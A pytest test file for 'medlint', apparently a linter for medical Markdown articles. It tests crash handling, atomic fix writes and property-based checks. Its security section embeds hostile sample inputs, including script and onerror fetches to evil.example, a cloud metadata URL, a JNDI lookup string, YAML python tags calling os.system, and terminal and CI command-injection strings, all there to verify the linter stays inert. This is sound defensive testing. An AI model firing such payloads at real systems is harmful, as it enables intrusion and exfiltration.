    (err,) = [d for d in result.diagnostics if d.rule == "rule-error"]
    assert "forever" in err.message and result.internal_error


@pytest.mark.parametrize("kind", sorted(GARBAGE))
def test_garbage_diagnostics_become_a_rule_error(kind):
    rule = _garbage_rule(GARBAGE[kind], "TST100")
    diags = _run([Finds, rule])
    (err,) = _rule_errors(diags, rule.name)
    assert "invalid diagnostic" in err.message
    # The rule's valid findings and every other rule's are kept.
    assert [d.rule for d in diags if d.rule != "rule-error"] == ["finds-iron", rule.name]
    # What the engine lets through is safe for every reporter.
    from medlint.reporters import REPORTERS
    from medlint.registry import Registry

    infos = Registry.builtin().infos()
    for fmt, render in REPORTERS.items():
        render(diags, infos, files=["article.md"])


def test_a_parser_crash_costs_one_file_not_the_run(tmp_path, monkeypatch):
    """A bug in parsing (not in a rule) on one article: that file gets an internal
    error naming the parser, every other file is linted, exit code 2, no traceback."""
    from medlint.markdown.parser import MarkdownParser

    real_parse = MarkdownParser.parse

    def parse(self, text):
        if "TRIGGER" in text:
            raise IndexError("list index out of range")
        return real_parse(self, text)

    monkeypatch.setattr(MarkdownParser, "parse", parse)
    (tmp_path / "a.md").write_text(GOOD.replace("Iron helps", "TRIGGER Iron helps"), encoding="utf-8")
    (tmp_path / "b.md").write_text(GOOD.replace("Iron helps your blood carry oxygen [1].",
                                                "See https://example.org [1]."), encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(main, [*hostile.check_args("."), "-j", "1"])
    assert result.exit_code == 2, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    found = by_path(json.loads(result.output))
    (err,) = found["a.md"]
    assert err["rule"] == "rule-error" and "parser" in err["message"] and "IndexError" in err["message"]
    assert [f["rule"] for f in found["b.md"]] == ["link-bare"]


_HARD_CRASH_PLUGIN = textwrap.dedent('''
    import os
    from medlint.diagnostics import Severity
    from medlint.rule import Rule


    class HardCrash(Rule):
        """Ends its process on the spot.

        ## What it does
        Calls os._exit on one article.

        ## Why it matters
        Nothing can catch it inside the process.
        """

        code, name, summary, severity = "CRS001", "hard-crash", "crashes hard", Severity.ERROR

        def check(self, ctx):
            if "CRASH-HERE" in ctx.doc.text:
                os._exit(3)


    RULES = [HardCrash]
''')


@pytest.mark.skipif(not hasattr(os, "fork"), reason="the worker pool forks")
def test_a_worker_that_dies_is_an_internal_error_not_a_traceback(tmp_path):
    """A plugin that kills its worker process (os._exit, a segfault, the OOM killer)
    cannot be contained, but the run ends with a clear message and exit code 2."""
    (tmp_path / "crash_plugin.py").write_text(_HARD_CRASH_PLUGIN, encoding="utf-8")
    (tmp_path / "medlint.toml").write_text('plugins = ["crash_plugin.py"]\n', encoding="utf-8")
    for i in range(24):
        (tmp_path / f"a{i:02}.md").write_text(GOOD.replace("Iron basics", "CRASH-HERE" if i == 7 else "Iron"),
                                              encoding="utf-8")
    run = hostile.run_medlint(["check", ".", "--no-cache", "--format", "json", "-j", "2", "--today", TODAY],
                              tmp_path)
    assert run.returncode == 2, (run.returncode, run.stderr[-2000:])
    assert "Traceback" not in run.stderr and "worker process died" in run.stderr


# ---------------------------------------------------------------------------------
# 4. --fix safety: atomic writes
# ---------------------------------------------------------------------------------
ORIGINAL = "\ufeffline one\r\nline two\r\n"
NEW = "fixed " * 1000


def _temp_files(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.startswith(".medlint-"))


@pytest.fixture
def article(tmp_path):
    path = tmp_path / "article.md"
    path.write_bytes(ORIGINAL.encode("utf-8"))
    path.chmod(0o640)
    return path


@pytest.mark.parametrize("failure", [OSError(errno.ENOSPC, "No space left on device"), KeyboardInterrupt()])
def test_failing_rename_leaves_the_original(article, monkeypatch, failure):
    def broken_replace(src, dst):
        raise failure

    monkeypatch.setattr(os, "replace", broken_replace)
    with pytest.raises(type(failure)):
        fixes_mod.write_atomic(str(article), NEW)
    assert article.read_bytes() == ORIGINAL.encode("utf-8")
    assert _temp_files(article.parent) == []


@pytest.mark.parametrize("failure", [OSError(errno.ENOSPC, "No space left on device"), KeyboardInterrupt(),
                                     SystemExit(143)])
def test_disk_full_half_way_through_the_write_leaves_the_original(article, monkeypatch, failure):
    real_fdopen = os.fdopen

    class HalfWriter:
        def __init__(self, handle):
            self.handle = handle

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            self.handle.close()
            return False

        def write(self, text):
            self.handle.write(text[: len(text) // 2])
            self.handle.flush()
            raise failure

        def __getattr__(self, name):
            return getattr(self.handle, name)

    monkeypatch.setattr(os, "fdopen", lambda *a, **k: HalfWriter(real_fdopen(*a, **k)))
    with pytest.raises(type(failure)):
        fixes_mod.write_atomic(str(article), NEW)
    assert article.read_bytes() == ORIGINAL.encode("utf-8")
    assert _temp_files(article.parent) == []


def test_failing_fsync_leaves_the_original(article, monkeypatch):
    def broken_fsync(fd):
        raise OSError(errno.EIO, "Input/output error")

    monkeypatch.setattr(os, "fsync", broken_fsync)
    with pytest.raises(OSError):
        fixes_mod.write_atomic(str(article), NEW)
    assert article.read_bytes() == ORIGINAL.encode("utf-8")
    assert _temp_files(article.parent) == []


def test_successful_write_keeps_mode_and_writes_exact_bytes(article):
    fixes_mod.write_atomic(str(article), "\ufeffnew\r\ntext\r")
    assert article.read_bytes() == "\ufeffnew\r\ntext\r".encode("utf-8")
    assert stat.S_IMODE(article.stat().st_mode) == 0o640
    assert _temp_files(article.parent) == []


def test_fixing_through_a_symlink_updates_the_target_and_keeps_the_link(tmp_path):
    (tmp_path / "shared").mkdir()
    real = tmp_path / "shared" / "real.md"
    real.write_text("old\n", encoding="utf-8")
    link = tmp_path / "link.md"
    os.symlink(os.path.join("shared", "real.md"), link)
    fixes_mod.write_atomic(str(link), "new\n")
    assert link.is_symlink()
    assert real.read_text(encoding="utf-8") == "new\n"
    assert _temp_files(tmp_path) == [] and _temp_files(tmp_path / "shared") == []


_WRITER = textwrap.dedent("""
    import sys
    from medlint.fixes import write_atomic
    path, a, b = sys.argv[1], sys.argv[2], sys.argv[3]
    contents = [a * 4_000_000, b * 4_000_000]
    print("ready", flush=True)
    i = 0
    while True:
        write_atomic(path, contents[i % 2])
        i += 1
""")


@pytest.mark.slow
@pytest.mark.parametrize("signum", [signal.SIGINT, signal.SIGTERM])
def test_signal_during_a_large_fix_never_leaves_half_a_file(tmp_path, signum):
    """A process rewriting an 8 MB article over and over is interrupted at various
    moments: the file is always the old or the new content, and (for SIGINT and
    SIGTERM, which medlint turns into a clean unwind) no temporary file is left."""
    path = tmp_path / "article.md"
    old = "é" * 4_000_000
    path.write_text(old, encoding="utf-8")
    wholes = {old, "a" * 4_000_000, "b" * 4_000_000}
    for delay in (0.05, 0.13, 0.31, 0.57, 0.9):
        proc = subprocess.Popen([sys.executable, "-c", _WRITER, str(path), "a", "b"], stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE)
        assert proc.stdout.readline().strip() == b"ready"
        time.sleep(delay)
        proc.send_signal(signum)
        _, err = proc.communicate(timeout=60)
        assert proc.returncode != 0
        content = path.read_text(encoding="utf-8")
        assert content in wholes, f"half-written file after {delay} s: {len(content)} characters"
        assert _temp_files(tmp_path) == [], err.decode()[-2000:]


@pytest.mark.slow
def test_sigkill_during_a_large_fix_never_leaves_half_a_file(tmp_path):
    """SIGKILL cannot be caught: a temporary file may stay behind, the article is whole."""
    path = tmp_path / "article.md"
    path.write_text("o" * 4_000_000, encoding="utf-8")
    wholes = {"o" * 4_000_000, "a" * 4_000_000, "b" * 4_000_000}
    for delay in (0.07, 0.21, 0.43):
        proc = subprocess.Popen([sys.executable, "-c", _WRITER, str(path), "a", "b"], stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE)
        assert proc.stdout.readline().strip() == b"ready"
        time.sleep(delay)
        proc.kill()
        proc.communicate(timeout=60)
        assert path.read_text(encoding="utf-8") in wholes
        for leftover in _temp_files(tmp_path):
            (tmp_path / leftover).unlink()


def test_cli_fix_that_cannot_write_keeps_the_article(tmp_path, monkeypatch):
    text = "# T\n\nSee https://example.org now.\n"
    (tmp_path / "a.md").write_text(text, encoding="utf-8")

    def broken_replace(src, dst):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "replace", broken_replace)
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(main, ["check", "a.md", "--fix", "--isolated", "--select", "link-bare"])
    assert result.exit_code == 2
    assert "a.md" in result.output and "No space left" in result.output
    assert (tmp_path / "a.md").read_text(encoding="utf-8") == text
    assert _temp_files(tmp_path) == []


def test_thousands_of_fixes_in_one_file_apply_quickly():
    """Regression: every fix was checked against every fix already taken: 20,000
    bare URLs made --fix take 15 s (quadratic). Now 10x the fixes cost about 10x."""
    from scaling import assert_linear

    def fixes_for(n: int) -> tuple[Source, list[Fix]]:
        source = Source("".join(f"See https://example.org/{i} now.\r\n" for i in range(n)))
        return source, [Fix((Replacement(i + 1, 5, i + 1, 5, "<"),
                             Replacement(i + 1, 25 + len(str(i)), i + 1, 25 + len(str(i)), ">"))) for i in range(n)]

    assert_linear(lambda n: (lambda args=fixes_for(n): fixes_mod.apply(*args)), 2_000, 20_000)
    source, fixes = fixes_for(20_000)
    out, applied = fixes_mod.apply(source, fixes)
    assert applied == 20_000
    assert out.count("<https://") == 20_000 and out.count("\r\n") == 20_000
    assert out.startswith("See <https://example.org/0> now.\r\n")


def test_a_fix_whose_own_edits_overlap_is_not_applied():
    source = Source("abcdef\n")
    broken = Fix((Replacement(1, 1, 1, 4, "X"), Replacement(1, 3, 1, 5, "Y")))
    fine = Fix((Replacement(1, 6, 1, 7, "Z"),))
    assert fixes_mod.apply(source, [broken, fine]) == ("abcdeZ\n", 1)


# ---------------------------------------------------------------------------------
# 5. Properties (hypothesis): any text
# ---------------------------------------------------------------------------------
_SESSION = Session(RunOptions(isolated=True, today=dt.date(2026, 11, 25), time_limit=None))
_TARGET = Target("prop.md", "prop.md", True)
_CONFIG = _SESSION.config_for(Path("prop.md"))


def lint_all(text: str):
    return lint_text("prop.md", text, _SESSION.settings_for(_TARGET), _SESSION.run_context(_CONFIG))


FRAGMENTS = [
    "# Heading", "## References", "## Sources", "## Medical disclaimer", "1. Smith J. Iron. 2020.", "2.", "3. 4.",
    "- item", "* item", "> quoted", "> > deeper", "```", "~~~", "    indented", "---", "***", "===", "|a|b|",
    "|---|---|", "<!-- medlint-disable-next-line link-bare -->", "<!-- medlint-disable -->",
    "<!-- medlint-enable -->", "<!-- medlint-disable-line ML305 -- reason until 2020-01-01 -->", "<!--", "-->",
    "[1]", "[2]", "[^1]", "[^1]: Smith J. 2020.", "[^x]:", "<sup>2</sup>", "[1-3]", "[1, 2]", "[7]",
    "https://example.org/a", "www.example.com", "<https://example.org>", "[link](https://example.org)",
    "![img](a.png)", "source.(https://x.org)", "Stop taking your statin.", "You should stop taking metformin.",
    "Ask your doctor first.", "B12 never causes cramps.", "B12 injections can cause cramps.", "45% of people",
    "Studies show it works.", "This cures everything.", "100% safe", "no side effects",
    "Take 5000 mg of vitamin B12.", "Take 1000 mcg or 1000 \u00b5g of B12.", "vitamin D 50 mg",
    "This article is for informational purposes only and is not a substitute for professional medical advice.",
    "title: x", "last_reviewed: 2020-02-30", "*", "**", "_", "`", "\\", "\t", "  ", "\u00e9", "\U0001F600",
    "\u200b", "\u202e", "\x1b[31m", "<div>", "</div>", "&amp;", "<br>", "Dr.", "e.g.", "U.S.", ".", "?", "!",
]
_piece = st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=6))
_line = st.lists(_piece, max_size=6).map(" ".join)
_body = st.lists(_line, max_size=20).map("\n".join)
_front = st.sampled_from(["", FRONT, "---\ntitle: [x\n---\n", "---\n- a\n---\n", "---\n"])


@st.composite
def any_article(draw):
    text = draw(_front) + draw(_body)
    newline = draw(st.sampled_from(["\n", "\r\n", "\r"]))
    text = text.replace("\n", newline)
    if draw(st.booleans()):
        text = "\ufeff" + text
    return text


PROPERTY = settings(max_examples=150, deadline=None,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])


@PROPERTY
@given(any_article())
def test_any_text_lints_without_error_and_spans_agree(text):
    result = lint_all(text)
    assert not [d for d in result.diagnostics if d.rule == "rule-error"], \
        [d.message for d in result.diagnostics if d.rule == "rule-error"]
    source = result.source
    assert source is not None
    size = len(source.text)
    for d in result.diagnostics:
        assert 0 <= d.offset <= d.end_offset <= size, d
        assert 1 <= d.line <= source.line_count and 1 <= d.end_line <= source.line_count, d
        assert (d.line, d.column) == tuple(source.point(d.offset)), d
        assert (d.end_line, d.end_column) == tuple(source.point(d.end_offset)), d
        for rel in d.related:
            assert 1 <= rel.line <= source.line_count
        if d.fix is not None:
            for rep in d.fix.replacements:
                assert 1 <= rep.line <= source.line_count and 1 <= rep.end_line <= source.line_count
                assert (rep.line, rep.column) <= (rep.end_line, rep.end_column)


@PROPERTY
@given(st.binary(max_size=300))
def test_any_bytes_decode_or_are_reported(data):
    result = decode(data)
    if isinstance(result, Unreadable):
        assert result.line >= 1 and result.column >= 1 and result.message
    else:
        lint_all(result)


_BLOCK_PIECES = [p for p in FRAGMENTS if p not in ("<!--", "-->", "```", "~~~", "---", "***", "===")]
_block_line = st.lists(st.sampled_from(_BLOCK_PIECES), min_size=1, max_size=5).map(" ".join)
_blocks = st.lists(st.lists(_block_line, min_size=1, max_size=3).map("\n".join), min_size=1, max_size=12)


def _shape(diags, shift_from: int | None = None):
    out = []
    for d in diags:
        line, end_line = d.line, d.end_line
        # Document-level findings stay at the top of the file (offset 0, no span).
        if shift_from is not None and not (d.offset == d.end_offset == 0):
            line += line >= shift_from
            end_line += end_line >= shift_from
        out.append((d.rule, line, d.column, end_line, d.end_column))
    return sorted(out)


@PROPERTY
@given(_blocks, st.data())
def test_suppressing_a_finding_removes_exactly_that_finding(blocks, data):
    text = "\n\n".join(blocks) + "\n"
    result = lint_all(text)
    doc, source = result.document, result.source
    lines = source.text.split("\n")
    # Where a comment line can go without changing the Markdown around it: above the
    # first line of a top-level block that follows a blank line (or starts the file).
    starts = {doc.point(n.start).line for n in doc.root.children}
    starts = {ln for ln in starts if ln == 1 or not lines[ln - 2].strip()}
    starts = {ln for ln in starts if doc.root.children and not lines[ln - 1].lstrip().startswith(("<", "    "))}
    candidates = sorted({(d.rule, d.line) for d in result.diagnostics
                         if d.line in starts and not (d.offset == d.end_offset == 0)
                         and d.rule not in ("rule-error", "unused-suppression")})
    if not candidates:
        return
    rule, line = data.draw(st.sampled_from(candidates))
    new_lines = lines[: line - 1] + [f"<!-- medlint-disable-next-line {rule} -- property test -->"] + lines[line - 1:]
    after = lint_all("\n".join(new_lines))
    expected = [d for d in result.diagnostics if not (d.rule == rule and d.line == line)]
    assert _shape(after.diagnostics) == _shape(expected, shift_from=line)


def _fixed(text: str, unsafe: bool) -> str:
    outcome = fix_text(_SESSION, _TARGET, text.encode("utf-8"), unsafe)
    return outcome.fixed if outcome.fixed is not None else text


@PROPERTY
@given(any_article(), st.booleans())
def test_fixing_is_idempotent_and_keeps_bytes_outside_the_edits(text, unsafe):
    once = _fixed(text, unsafe)
    assert _fixed(once, unsafe) == once
    # One round, fix by fix: only the replaced span changes, every other byte is kept.
    result = lint_all(text)
    source = result.source
    bom = "\ufeff" if source.has_bom else ""
    for fix in fixes_mod.select((d.fix for d in result.diagnostics), unsafe):
        out, applied = fixes_mod.apply(source, [fix])
        assert applied == 1
        edits = sorted((source.original_offset(source.offset(r.line, r.column)),
                        source.original_offset(source.offset(r.end_line, r.end_column)),
                        r.text.replace("\n", source.newline) if source.newline != "\n" else r.text)
                       for r in fix.replacements)
        expected, cursor = [], 0
        for start, end, new in edits:
            expected.append(source.original[cursor:start])
            expected.append(new)
            cursor = max(cursor, end)
        expected.append(source.original[cursor:])
        assert out == bom + "".join(expected)


@pytest.mark.parametrize("text", ["```", "# T\n\n```python\nx = 1\n", "# T\n\n<!-- draft\n\nmore\n",
                                  "# T\n\n<pre>\nx\n", "~~~~\n```\n"])
def test_disclaimer_fix_is_not_offered_into_an_unclosed_block(text):
    """Regression: appended to a file that ends inside an unclosed code fence or HTML
    comment, the disclaimer became code, so every --fix round appended another one."""
    result = lint_all(text)
    (missing,) = [d for d in result.diagnostics if d.rule == "disclaimer-required"]
    assert missing.fix is None
    assert _fixed(text, True).count("## Medical disclaimer") == 0


# ---------------------------------------------------------------------------------
# 6. Security: content is data, output cannot inject
# ---------------------------------------------------------------------------------
HOSTILE_ARTICLE = FRONT.replace("title: Iron basics", "title: !!python/module:antigravity") + textwrap.dedent("""\
    # Iron <script src="https://evil.example/x.js"></script>

    See https://example.org/a and www.example.com and <https://example.org/b>.
    ![pixel](https://tracker.example/p.gif) [link](http://169.254.169.254/latest/meta-data/)
    <img src="https://evil.example/i.png" onerror="fetch('https://evil.example')">
    <iframe src="file:///etc/passwd"></iframe> <link rel="import" href="//evil.example/x">
    [ref]: https://evil.example/ref "title"
    __import__('os').system('touch PWNED') {{ config }} ${jndi:ldap://evil.example/a}
    <!-- medlint-disable plugin:evil.py -->

    ```python
    import antigravity
    ```

    [^1]: https://evil.example/footnote
    """)


def _forbid_network_and_unsafe_yaml(monkeypatch) -> list[str]:
    import yaml.constructor

    calls: list[str] = []

    def refuse(name):
        def blocked(*args, **kwargs):
            calls.append(name)
            raise OSError(f"medlint must not do this: {name}")
        return blocked

    monkeypatch.setattr(socket.socket, "connect", refuse("connect"))
    monkeypatch.setattr(socket.socket, "connect_ex", refuse("connect_ex"))
    monkeypatch.setattr(socket.socket, "sendto", refuse("sendto"))
    monkeypatch.setattr(socket, "getaddrinfo", refuse("getaddrinfo"))
    monkeypatch.setattr(socket, "create_connection", refuse("create_connection"))
    # FullLoader, UnsafeLoader and Loader (C or Python) all build a FullConstructor;
    # only SafeLoader-based loaders are allowed to run.
    monkeypatch.setattr(yaml.constructor.FullConstructor, "__init__", refuse("an unsafe YAML loader"))
    monkeypatch.setattr(subprocess, "Popen", refuse("subprocess.Popen"))
    monkeypatch.setattr(os, "system", refuse("os.system"))
    return calls


NETWORK_MODULES = ("urllib.request", "http.client", "requests", "httpx", "urllib3", "ftplib", "smtplib",
                   "webbrowser", "socketserver", "antigravity", "evil")


def test_linting_content_never_touches_the_network_or_imports(tmp_path, monkeypatch):
    (tmp_path / "evil.py").write_text(f"open({str(tmp_path / 'PLUGIN-RAN')!r}, 'w').close()\n", encoding="utf-8")
    for i in range(5):
        (tmp_path / f"a{i}.md").write_text(HOSTILE_ARTICLE, encoding="utf-8")
    (tmp_path / "fm-plugin.md").write_text(
        "---\ntitle: x\nmedlint:\n  plugins: [evil.py]\n  ignore: [evil.py]\n---\n# T\n", encoding="utf-8")
    before = set(sys.modules)
    calls = _forbid_network_and_unsafe_yaml(monkeypatch)
    monkeypatch.chdir(tmp_path)
    for fmt in ("json", "text", "sarif", "github", "junit"):
        result = CliRunner().invoke(main, ["check", ".", "--format", fmt, "--no-cache", "-j", "1",
                                           "--today", TODAY])
        assert result.exit_code == 1, result.output[-2000:]
        assert result.exception is None or isinstance(result.exception, SystemExit)
    new = set(sys.modules) - before
    assert calls == []
    assert not (tmp_path / "PWNED").exists() and not (tmp_path / "PLUGIN-RAN").exists()
    assert not [m for m in new if m in NETWORK_MODULES or m.startswith(("antigravity", "evil"))], new


def test_yaml_is_only_loaded_with_safe_loaders_in_the_source():
    forbidden = ("unsafe_load", "full_load", "FullLoader", "UnsafeLoader", "Loader=yaml.Loader",
                 "yaml.CLoader", "yaml.load(", "yaml.load_all(")
    found = []
    for path in sorted((ROOT / "src" / "medlint").rglob("*.py")):
        source = path.read_text(encoding="utf-8")
        found += [f"{path.relative_to(ROOT)}: {needle}" for needle in forbidden if needle in source]
    assert found == []


def test_python_tags_in_claim_registry_and_yaml_rules_never_execute(tmp_path, monkeypatch):
    marker = tmp_path / "PWNED"
    tag = f'!!python/object/apply:os.system ["touch {marker}"]'
    (tmp_path / "claims").mkdir()
    (tmp_path / "claims" / "registry.yaml").write_text(f"claims:\n  - id: {tag}\n", encoding="utf-8")
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "evil.yaml").write_text(f"code: ACM001\nname: {tag}\n", encoding="utf-8")
    (tmp_path / "a.md").write_text(GOOD, encoding="utf-8")
    calls = _forbid_network_and_unsafe_yaml(monkeypatch)
    monkeypatch.chdir(tmp_path)
    for config in ('claims = ["claims/*.yaml"]\n', 'rule-dirs = ["rules"]\n'):
        (tmp_path / "medlint.toml").write_text(config, encoding="utf-8")
        result = CliRunner().invoke(main, ["check", "a.md", "--no-cache", "--format", "json", "--today", TODAY])
        assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
        assert "Traceback" not in result.output
        assert result.exit_code == 2, result.output  # a configuration problem, reported
        assert "registry.yaml" in result.output or "evil.yaml" in result.output
    assert calls == [] and not marker.exists()


CONTROL = ["\x1b[2J", "\x1b]0;pwned\x07", "\x1b]8;;https://evil.example\x1b\\", "\x9b31m", "\r", "\x08",
           "\u202e", "\u2066"]


def test_terminal_escapes_from_articles_are_neutralised_in_text_output(tmp_path):
    body = "".join(f"Line {i} {c} https://example.org/{i} now.\n\n" for i, c in enumerate(CONTROL))
    name = "evil\x1b[31mname.md"
    (tmp_path / name).write_text("# T " + "\x1b[5m" + "\n\n" + body, encoding="utf-8")
    for args in (["--no-color"], ["--no-color", "--quiet"], ["--statistics"]):
        run = hostile.run_medlint(["check", ".", "--isolated", "--no-cache", "--today", TODAY, *args], tmp_path)
        assert run.returncode == 1 and "Traceback" not in run.stderr
        for c in ["\x1b", "\x07", "\x9b", "\x08", "\u202e", "\u2066"]:
            assert c not in run.stdout, (args, c)
        assert "\r" not in run.stdout.replace("\r\n", "")
    # With colour forced on, the only escape sequences are medlint's own SGR colours.
    run = hostile.run_medlint(["check", ".", "--isolated", "--no-cache", "--today", TODAY, "--color"], tmp_path)
    import re

    assert "\x07" not in run.stdout and "\x1b]" not in run.stdout
    assert not re.search(r"\x1b(?!\[[0-9;]*m)", run.stdout)


def test_file_names_and_messages_cannot_forge_output_lines(tmp_path):
    """Regression: a file name with a line feed printed a second, forged finding line
    in text output (what editors' and CI problem matchers parse)."""
    name = "x.md: ok\nreal.md:9:9: error fake-rule (ML999) forged\nz.md"
    (tmp_path / name).write_text("# T\n\nSee https://example.org now.\n", encoding="utf-8")
    run = hostile.run_medlint(["check", ".", "--isolated", "--no-cache", "--no-color", "--quiet"], tmp_path)
    assert run.returncode == 1 and "Traceback" not in run.stderr
    lines = run.stdout.splitlines()
    assert lines and all(line.startswith("x.md: ok\\x0areal.md") for line in lines), lines
    from medlint.reporters.text import visible

    assert "\n" not in visible("a\nb\r\u2028c") and "\t" in visible("a\tb")


NASTY = 'quote " apostrophe \' <tag> & ]]> --> \x00\x01\x08\x0b\x0c\x1b\x7f \ufffe \ud800 \U0001F600 \u2028 %0A \n::error::x'


def _nasty_diagnostics() -> list[Diagnostic]:
    return [
        Diagnostic(path=f'dir "x",line=99::%0A/<a>&]]>{i}.md', rule="link-bare", code="ML305", severity=sev,
                   message=f"{NASTY} #{i}", line=i + 1, column=2, end_line=i + 1, end_column=9, hint=NASTY,
                   fix=Fix((Replacement(i + 1, 2, i + 1, 9, NASTY),)),
                   related=(Related("other.md", 3, 1, NASTY),))
        for i, sev in enumerate([Severity.ERROR, Severity.WARNING, Severity.INFO])
    ]


def test_json_sarif_and_junit_are_real_serialisations():
    from medlint.registry import Registry
    from medlint.reporters import REPORTERS

    infos = Registry.builtin().infos()
    diags = _nasty_diagnostics()
    files = [d.path for d in diags]
    # JSON: parses back to the same values (lone surrogates escaped, not crashed on).
    data = json.loads(REPORTERS["json"](diags, infos, files=files))
    assert [d["message"] for d in data] == [d.message for d in diags]
    assert [d["path"] for d in data] == files
    # SARIF: JSON with the message text intact.
    sarif = json.loads(REPORTERS["sarif"](diags, infos, files=files))
    texts = [r["message"]["text"] for r in sarif["runs"][0]["results"]]
    assert all(NASTY.split(" \x00")[0] in t for t in texts)
    # JUnit: well-formed XML; markup stays text.
    xml = REPORTERS["junit"](diags, infos, files=files)
    root = ET.fromstring(xml.encode("utf-8") if isinstance(xml, str) else xml)
    dump = ET.tostring(root, encoding="unicode")
    assert "<tag>" not in dump and root.iter()
    assert any("<tag> & ]]>" in (el.text or "") + " ".join(el.attrib.values()) for el in root.iter())


def test_github_annotations_cannot_inject_workflow_commands():
    from medlint.registry import Registry
    from medlint.reporters import REPORTERS

    diags = _nasty_diagnostics()
    out = REPORTERS["github"](diags, Registry.builtin().infos(), files=[d.path for d in diags])
    lines = [ln for ln in out.split("\n") if ln]
    commands = [ln for ln in lines if ln.startswith("::")]
    assert len(commands) == len(diags), lines  # one command per finding, nothing smuggled in
    for ln in commands:
        head, _, message = ln[2:].partition("::")
        assert "\r" not in ln and "\n" not in ln
        assert "%0A::error::x" in message  # the smuggled command is inert text inside the message
        assert "%250A" in message  # and a literal "%0A" cannot decode into a newline
        command, _, props = head.partition(" ")
        pairs = [p.split("=", 1) for p in props.split(",")]
        assert command in ("error", "warning", "notice")
        assert [k for k, _ in pairs] == ["file", "line", "endLine", "col", "endColumn", "title"], pairs
        file = dict(pairs)["file"]
        assert file.replace("%2C", ",").replace("%3A", ":").replace("%25", "%") in {d.path for d in diags}


def test_cli_output_formats_parse_with_hostile_article_text(tmp_path):
    text = ("# T\n\nSee https://example.org/\"q\"<b>&]]>\x1b[31m now.\n\n"
            "Quote \" and <script>alert(1)</script> and ]]> and \x0b\x0c https://x.org/\x7f\n")
    (tmp_path / 'we"ird <&]]>.md').write_text(text, encoding="utf-8")
    for fmt, parse in (("json", json.loads), ("sarif", json.loads), ("junit", ET.fromstring)):
        run = hostile.run_medlint(["check", ".", "--isolated", "--no-cache", "--format", fmt, "--today", TODAY],
                                  tmp_path)
        assert run.returncode == 1 and "Traceback" not in run.stderr, run.stderr
        parse(run.stdout)
